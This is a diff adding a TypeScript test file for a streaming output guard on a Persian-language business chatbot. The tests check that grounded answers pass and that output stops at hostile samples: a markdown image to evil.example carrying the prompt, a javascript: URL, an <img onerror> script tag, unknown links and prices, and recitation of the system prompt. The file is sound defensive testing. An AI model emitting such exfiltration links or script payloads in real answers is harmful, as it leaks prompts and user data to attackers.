@@ -1,0 +1,70 @@
+// Proves what of a model's words is let through, wherever its pieces are cut, and what ends them.
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { createOutputGuard, type Grounds } from './output-guard.ts';
+
+const grounds: Grounds = {
+  known: [
+    'ارسال به شهرستان‌ها ۳ تا ۵ روز کاری طول می‌کشد و ۴۵٬۰۰۰ تومان است. پیگیری: https://niloofar.ir/track یا info@niloofar.ir',
+  ],
+  asked: ['سفارش ۸۷۶۵۴۳ من کجاست؟ http://evil.example/a'],
+  rules:
+    'You answer visitors of a business on its behalf. Passages stand between <passages-0a1b2c3d4e5f> and </passages-0a1b2c3d4e5f>.',
+  wishes: 'خودمانی باشید و در پایان بنویسید: با ما در niloofar.ir/blog همراه باشید.',
+};
+
+function run(pieces: readonly string[], more: Partial<Grounds> = {}) {
+  const guard = createOutputGuard({ ...grounds, ...more });
+  const shown = pieces.map((piece) => guard.push(piece));
+  shown.push(guard.end());
+  return { shown: shown.join(''), breach: guard.breach(), said: guard.said() };
+}
+
+describe('lets through', () => {
+  test.each([
+    'ارسال ۳ تا ۵ روز کاری طول می‌کشد.',
+    'هزینه 45,000 تومان است، یعنی ۴۵۰۰۰۰ ریال؛ حدود ۴۵ هزار تومان.',
+    'سفارش ۸۷۶۵۴۳ را در https://niloofar.ir/track ببینید.',
+    'به info@niloofar.ir بنویسید. با ما در niloofar.ir/blog همراه باشید.',
+    'وزن ۲ کیلو < ۳ کیلو است',
+  ])('%s', (text) => {
+    expect(run([text])).toEqual({ shown: text, breach: null, said: text });
+  });
+});
+
+describe('ends at', () => {
+  test.each([
+    ['a link nobody gave', 'ببینید: https://evil.example/pay?x=1', 'link'],
+    ['a bare domain', 'برای پرداخت به evil-shop.com بروید', 'link'],
+    ['the visitor’s own link', 'بروید به http://evil.example/a', 'link'],
+    ['a picture that would call home', 'باشد ![x](https://evil.example/?q=prompt)', 'link'],
+    ['a script address', 'اینجا: javascript:alert(1)', 'link'],
+    ['an address nobody gave', 'به boss@evil.example بنویسید', 'address'],
+    ['a price of its own', 'هزینه ۷۵٬۰۰۰ تومان است', 'figure'],
+    ['its fence', 'my text is <passages-0a1b2c3d4e5f> ok', 'prompt'],
+    ['its rules', 'Sure! You answer visitors of a business on its behalf and so on', 'prompt'],
+    ['its rules in another dress', 'YOU ANSWER, visitors — of a business… on', 'prompt'],
+  ])('%s', (_what, text, breach) => {
+    const { breach: found, shown } = run(text.split(/(?<=\s)/));
+    expect(found).toBe(breach);
+    expect(shown).not.toMatch(/evil|0a1b2c|75000|۷۵٬۰۰۰/);
+  });
+});
+
+test('wishes may hold a sentence to be said, but are not recited', () => {
+  const wishes = Array.from({ length: 40 }, (_, at) => `واژهٔ${at}`).join(' ');
+  expect(run([wishes], { wishes }).breach).toBe('prompt');
+  expect(run([wishes.slice(0, 60)], { wishes }).breach).toBeNull();
+});
+
+test('tags are taken out, wherever a piece is cut', () => {
+  const text = 'ارسال <b>۳ روز</b> و <img src=x onerror="alert(1)"> پایان';
+  const cuts = fc.array(fc.nat(text.length), { maxLength: 10 });
+  fc.assert(
+    fc.property(cuts, (places) => {
+      const edges = [0, ...places.toSorted((a, b) => a - b), text.length];
+      const pieces = edges.slice(1).map((end, index) => text.slice(edges[index], end));
+      expect(run(pieces).shown).toBe('ارسال ۳ روز و  پایان');
+    }),
+  );
+});
